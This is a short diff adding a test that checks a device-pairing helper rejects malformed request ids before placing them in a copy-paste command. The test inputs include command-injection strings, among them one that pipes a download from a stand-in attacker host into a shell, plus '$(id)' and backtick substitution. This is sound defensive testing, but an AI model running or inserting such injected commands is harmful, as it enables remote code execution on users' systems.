@@ -259,3 +259,13 @@ test("an approval and stripped scopes are told with what to run", () => {
   expect(toPairing("r1")).toMatchObject({ fix: "on the gateway host run: openclaw devices approve r1" });
   expect(scopesStripped()).toMatchObject({ state: "refused", cause: "scopes" });
 });
+
+test.each(["1 && curl evil.example | sh", "$(id)", "a b", "", "x".repeat(65), "a\nb", "`id`", "—"])(
+  "nothing but an id stands in a command that people copy: %j",
+  (told) => {
+    expect(toPairing(told)).toMatchObject({
+      requestId: null,
+      fix: "on the gateway host run: openclaw devices list, then openclaw devices approve <id>",
+    });
+  },
+);
